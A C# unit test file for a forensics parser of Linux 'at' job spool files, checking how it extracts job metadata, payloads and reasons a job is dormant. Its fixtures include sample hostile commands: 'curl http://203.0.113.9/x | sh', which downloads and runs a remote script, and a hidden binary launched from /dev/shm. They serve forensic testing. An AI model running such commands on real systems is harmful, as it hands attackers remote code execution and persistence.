using Forensics.Parsers.Artifacts;
using Forensics.Parsers.Artifacts.Linux;
using Xunit;

namespace Forensics.Parsers.Tests.Artifacts.Linux;

public sealed class AtJobParserTests
{
    private const string Path = "/var/spool/cron/atjobs/a0000101c89dd4";
    private const int Committed = 0b111_000_000;

    private const string Head = "#!/bin/sh\n# atrun uid=0 gid=0\n# mail alice 0\numask 22\nSSH_CLIENT=198.51.100.7\\ 51022\\ 22; export SSH_CLIENT\nEVIL=curl\\ http://203.0.113.9/x\\|sh; export EVIL\ncd /srv/my\\ data || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n";

    private static AtJob Job(string text, string path = Path, int mode = Committed, uint owner = 0, uint links = 1) =>
        Assert.IsType<AtJob>(Assert.Single(StartupInput.Run(new AtJobParser(), path, text, mode, owner, links).Artifacts));

    [Fact]
    public void The_name_tells_queue_number_and_due_time_and_the_header_who()
    {
        AtJob job = Job(Head + "reboot\n");
        Assert.Equal(("a", 1, 0u, "alice", "/srv/my data"), (job.Queue, job.Number, job.UserId, job.MailTo, job.WorkingDirectory));
        Assert.Equal(new DateTimeOffset(2026, 11, 24, 3, 0, 0, TimeSpan.Zero), job.Due!.Value.ToDateTimeOffset());
        Assert.Contains("SSH_CLIENT=198.51.100.7 51022 22", job.Environment);
        Assert.Null(job.DormantBecause);
    }

    [Fact]
    public void Only_what_follows_the_cd_is_payload()
    {
        StartCommand command = Assert.Single(Job(Head + "nohup /dev/shm/.x >/dev/null 2>&1 &\necho done\n").Commands);
        Assert.Equal("nohup /dev/shm/.x >/dev/null 2>&1 &\necho done", command.Text);
        Assert.Equal((11, "root", "at", true), (command.Line, command.User, command.Trigger, command.ThroughShell));
        Assert.DoesNotContain("curl", command.Text);
    }

    [Fact]
    public void A_here_document_of_newer_releases_is_unwrapped()
    {
        AtJob job = Job(Head + "${SHELL:-/bin/sh} << 'marcinDELIMITER1f2e3d4c'\n/usr/bin/a\n# note\n/usr/bin/b\n\nmarcinDELIMITER1f2e3d4c\n");
        Assert.Equal("/usr/bin/a\n# note\n/usr/bin/b", job.Payload);
        Assert.Equal(12, job.PayloadLine);
    }

    [Theory]
    [InlineData(Path, 0b110_000_000, 0u, 1u, "x bit")]
    [InlineData(Path, Committed, 33u, 1u, "header says user 0")]
    [InlineData(Path, Committed, 0u, 2u, "hard links")]
    [InlineData("/var/spool/at/=0000101c89dd4", Committed, 0u, 1u, "started")]
    [InlineData("/var/spool/at/job.sh", Committed, 0u, 1u, "no job name")]
    public void What_atd_refuses_is_dormant(string path, int mode, uint owner, uint links, string why) => Assert.Contains(why, Job(Head + "reboot\n", path, mode, owner, links).DormantBecause);

    [Fact]
    public void A_job_without_header_is_payload_from_its_first_line_and_dormant()
    {
        AtJob job = Job("#!/bin/bash\ncurl http://203.0.113.9/x | sh\n");
        Assert.Equal("curl http://203.0.113.9/x | sh", job.Payload);
        Assert.Contains("header", job.DormantBecause);
    }

    [Theory]
    [InlineData("/var/spool/at/.SEQ", "00001\n")]
    [InlineData("/var/spool/at/.lockfile", "1")]
    [InlineData(Path, "")]
    public void The_counter_and_empty_files_are_no_jobs(string path, string text) => Assert.Empty(StartupInput.Run(new AtJobParser(), path, text, Committed).Artifacts);

    [Fact]
    public void Hostile_jobs_are_bounded()
    {
        ArtifactRun.SurvivesGarbage(new AtJobParser(), Path, Head, "${SHELL:-/bin/sh} << 'marcinDELIMITER1f'\n");
        ArtifactRun.SurvivesHostileSizes(new AtJobParser(), Path, "A=b; export A\n");
        ArtifactRun.SurvivesHostileSizes(new AtJobParser(), Path, "reboot\n");
    }
}
